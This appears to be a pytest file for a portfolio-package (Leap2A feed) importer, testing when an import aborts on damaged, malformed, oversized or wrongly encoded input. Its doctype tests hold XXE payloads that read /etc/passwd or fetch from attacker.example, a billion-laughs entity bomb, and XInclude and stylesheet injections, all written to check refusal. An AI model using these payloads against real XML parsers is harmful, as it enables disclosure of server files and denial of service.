"""What ends an import with nothing written. Source: portfolio-package.md §6.2."""

import time
import tracemalloc
from html import escape
from pathlib import Path

import pytest

from quadrangle.packages import Aborted, Limits, read
from tests.specs.packages.making import (
    NOW,
    VERSION,
    central,
    entry,
    feed,
    found_in,
    link,
    opened,
    ours,
    package,
    patched,
    zip_of,
)


def aborted(folder: Path, content: bytes | str, limits: Limits | None = None) -> str:
    whole = content if isinstance(content, bytes) else package(content)
    with pytest.raises(Aborted) as raised:
        list(read(opened(folder, whole, limits), NOW).items())
    assert raised.value.text
    return raised.value.reason


ONE = entry("urn:x:1")


class TestTheMainFile:
    def test_its_checksum_is_wrong(self, tmp_path: Path) -> None:
        whole = package(feed(ONE))
        assert aborted(tmp_path, patched(whole, central(whole) + 16, "<L", 1)) == "main-file-damaged"

    @pytest.mark.parametrize("size", [10, 100, 100_000])
    def test_its_size_is_not_what_was_declared(self, tmp_path: Path, size: int) -> None:
        whole = package(feed(ONE))
        reason = aborted(tmp_path, patched(whole, central(whole) + 24, "<L", size))
        assert reason in ("main-file-damaged", "not-well-formed")

    @pytest.mark.parametrize(
        "xml",
        [
            "",
            "   ",
            "Hello",
            feed(ONE)[:-1],
            feed(ONE)[:300],
            feed(ONE) + "<a/>",
            feed(ONE).replace("</title>", "", 1),
            feed(ONE.replace("Raw", "&#0;")),
            feed(ONE.replace("Raw", "&#x1F;")),
            feed(ONE.replace("Raw", "&nbsp;")),
            feed(ONE.replace("Raw", "<undeclared:x/>")),
            feed(ONE).replace("xmlns:rdf", "xmlns:rdf2"),
            feed(ONE.replace("<entry>", '<entry a="1" a="2">')),
            "<!-- no end " + feed(ONE),
            "<!-- " + "x" * 300_000 + "-->" + feed(ONE).partition("\n")[2],
        ],
    )
    def test_it_is_not_well_formed(self, tmp_path: Path, xml: str) -> None:
        assert aborted(tmp_path, xml) == "not-well-formed"

    @pytest.mark.parametrize(
        ("declared", "encoding"),
        [
            ("ISO-8859-1", "latin-1"),
            ("UTF-8", "latin-1"),
            ("UTF-7", "ascii"),
            ("EBCDIC-CP-US", "cp037"),
            ("UTF-32", "utf-32-be"),
        ],
    )
    def test_it_is_neither_utf_8_nor_utf_16(self, tmp_path: Path, declared: str, encoding: str) -> None:
        xml = feed(ONE.replace("Raw", "R\xe4w" if encoding != "ascii" else "Raw")).replace("UTF-8", declared)
        assert aborted(tmp_path, zip_of({"leap2a.xml": xml.encode(encoding)})) in ("encoding", "not-well-formed")

    def test_what_it_says_of_its_encoding_counts(self, tmp_path: Path) -> None:
        assert aborted(tmp_path, feed(ONE).replace("UTF-8", "ISO-8859-1")) == "encoding"

    def test_half_a_surrogate_is_no_utf_16(self, tmp_path: Path) -> None:
        xml = feed(ONE).replace("UTF-8", "UTF-16").encode("utf-16") + b"\x00\xd8"
        assert aborted(tmp_path, zip_of({"leap2a.xml": xml})) == "encoding"


class TestDoctypes:
    @pytest.mark.parametrize(
        "doctype",
        [
            "<!DOCTYPE feed>",
            '<!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd">',
            '<!DOCTYPE feed [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE feed [<!ENTITY % a SYSTEM "http://attacker.example/"> %a;]>',
            '<!DOCTYPE feed [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            + "".join(f'<!ENTITY {y} "{f"&{x};" * 10}">' for x, y in zip("bcdefghij", "cdefghijk", strict=True))
            + "]>",
            '<!DOCTYPE feed [<!ENTITY a "' + "a" * 50_000 + '">]>',
            "\n<!-- before --><?pi before?>\n<!DOCTYPE feed []>",
            "<!DOCTYPE\nfeed>",
        ],
    )
    def test_there_is_one(self, tmp_path: Path, doctype: str) -> None:
        xml = feed(ONE.replace("Raw", "&k;&a;"), before=doctype)
        assert aborted(tmp_path, xml) == "doctype"

    def test_in_utf_16_too(self, tmp_path: Path) -> None:
        xml = feed(ONE, before="<!DOCTYPE feed>").replace("UTF-8", "UTF-16")
        assert aborted(tmp_path, zip_of({"leap2a.xml": xml.encode("utf-16")})) == "doctype"

    def test_one_in_the_middle_is_not_well_formed(self, tmp_path: Path) -> None:
        assert aborted(tmp_path, feed(ONE, "<!DOCTYPE feed>")) == "not-well-formed"
        assert aborted(tmp_path, feed(ONE).replace("?>\n", "?>\n<!-- -->") + "<!DOCTYPE feed>") == "not-well-formed"

    def test_one_that_is_text_is_fine(self, tmp_path: Path) -> None:
        found = found_in(tmp_path, feed(entry("urn:x:1", content="<content><![CDATA[<!DOCTYPE x>]]></content>")))
        assert found["urn:x:1"].description == "<p>&lt;!DOCTYPE x&gt;</p>"

    def test_nothing_is_included(self, tmp_path: Path) -> None:
        include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        stylesheet = '<?xml-stylesheet href="http://attacker.example/evil.xsl"?>'
        xml = feed(entry("urn:x:1", "T", include, content=f"<content>{include}</content>"), before=stylesheet)
        found = found_in(tmp_path, xml)
        assert found["urn:x:1"].description == ""
        assert "root:" not in str(found.items)
        assert ("element-unknown", "{http://www.w3.org/2001/XInclude}include") in found.problems


class TestShape:
    def test_it_is_nested_300_deep(self, tmp_path: Path) -> None:
        deep = "<div>" * 300 + "</div>" * 300
        xml = feed(entry("urn:x:1", content=f'<content type="xhtml">{deep}</content>'))
        assert aborted(tmp_path, xml) == "too-deep"

    def test_250_deep_is_fine(self, tmp_path: Path) -> None:
        deep = "<div xmlns='http://www.w3.org/1999/xhtml'>" * 250 + "x" + "</div>" * 250
        found = found_in(tmp_path, feed(entry("urn:x:1", content=f'<content type="xhtml">{deep}</content>')))
        assert found["urn:x:1"].description.count("<div>") == 249

    @pytest.mark.parametrize(
        "xml",
        [
            "<rss/>",
            "<feed/>",
            '<entry xmlns="http://www.w3.org/2005/Atom"/>',
            '<a><feed xmlns="http://www.w3.org/2005/Atom"/></a>',
            '<html xmlns="http://www.w3.org/1999/xhtml"/>',
        ],
    )
    def test_it_is_no_feed(self, tmp_path: Path, xml: str) -> None:
        assert aborted(tmp_path, xml) == "not-a-feed"

    @pytest.mark.parametrize(
        "version", ["http://www.leapspecs.org/2030-01/2A/", "1.0", "", "http://www.leapspecs.org/2010-07/"]
    )
    def test_its_version_is_not_known(self, tmp_path: Path, version: str) -> None:
        assert aborted(tmp_path, feed(ONE, version=f"<leap2:version>{version}</leap2:version>")) == "version"

    @pytest.mark.parametrize(
        "version",
        [
            VERSION,
            "",
            "<leap2:version>http://wiki.leapspecs.org/2A/</leap2:version>",
            "<leap2:version>http://wiki.cetis.ac.uk/2009-03/Leap2A</leap2:version>",
            "<leap2:version> http://www.leapspecs.org/2009-03/2A/ </leap2:version>",
        ],
    )
    def test_these_versions_are_read(self, tmp_path: Path, version: str) -> None:
        assert len(found_in(tmp_path, feed(ONE, version=version)).items) == 1

    @pytest.mark.parametrize("format", ["2", "0", "", "1.5", "x"])
    def test_its_format_is_not_known(self, tmp_path: Path, format: str) -> None:
        package_element = f'<ep:package format="{format}" scope="all" objects="1"/>'
        assert aborted(tmp_path, feed(package_element, ours(1, 300))) == "format"

    def test_it_has_50_001_entries(self, tmp_path: Path) -> None:
        many = [f"<entry><id>urn:x:{n}</id></entry>" for n in range(50_001)]
        assert aborted(tmp_path, feed(*many)) == "too-many-entries"
        assert read(opened(tmp_path, feed(*many[:-1]).encode()), NOW).objects == 50_000

    def test_there_were_items_and_none_is_left(self, tmp_path: Path) -> None:
        assert aborted(tmp_path, feed(entry(None), ours(1, 999))) == "nothing-imported"

    def test_a_feed_with_no_items_is_fine(self, tmp_path: Path) -> None:
        assert found_in(tmp_path, feed()).items == []


class TestSize:
    def test_an_entry_of_millions_of_elements_is_refused_before_it_is_a_tree(self, tmp_path: Path) -> None:
        """A tree takes a hundred bytes for what takes four here, and 64 MiB are allowed."""
        xml = feed(f"<entry><content>{'<a/>' * 4_000_000}</content></entry>")
        began = time.monotonic()
        assert aborted(tmp_path, xml.encode()) == "too-large"
        assert time.monotonic() - began < 20

    def test_so_is_what_is_in_no_entry(self, tmp_path: Path) -> None:
        assert aborted(tmp_path, feed("<a/>" * 1_000_000).encode()) == "too-large"

    def test_so_are_more_links_than_anybody_has(self, tmp_path: Path) -> None:
        xml = feed(*[entry(f"urn:x:{n}", "T", link("related", "a") * 10) for n in range(101)])
        assert aborted(tmp_path, xml, Limits(links=1009)) == "too-large"
        assert read(opened(tmp_path, xml.encode(), Limits(links=1010)), NOW).objects == 101

    def test_markup_that_would_grow_in_a_sanitiser_becomes_text(self, tmp_path: Path) -> None:
        """Each paragraph would open two hundred elements again."""
        grown = "<p>" + "<b>" * 200 + "<p>x</p>" * 10_000 + "</b>" * 200 + "</p>"
        div = f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{grown}</div></content>'
        escaped = f'<content type="html">{escape(grown)}</content>'
        deep = f'<content type="html">{escape("<div>" * 5000 + "x")}</content>'
        found = found_in(
            tmp_path, feed(*[entry(f"urn:x:{n}", content=one) for n, one in enumerate((div, escaped, deep))])
        )
        assert all("<b>" not in one.description and "x" in one.description for one in found.items)
        assert found.codes == ["html-changed"] * 3

    def test_of_each_problem_a_thousand_are_listed(self, tmp_path: Path) -> None:
        found = found_in(tmp_path, feed(*[entry(f"urn:x:{n}", "") for n in range(1500)]))
        assert found.codes == ["title-missing"] * 1001
        assert found.reading.problems()[-1].text == "This was found 500 times more."

    def test_a_feed_is_never_held_whole(self, tmp_path: Path) -> None:
        texts = [entry(f"urn:x:{n}", content=f"<content>{'word ' * 4000}</content>") for n in range(1000)]
        container = opened(tmp_path, feed(*texts).encode())
        del texts
        tracemalloc.start()
        for one in read(container, NOW).items():
            assert one.key
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert container.main.size > 20_000_000
        assert peak < 8_000_000
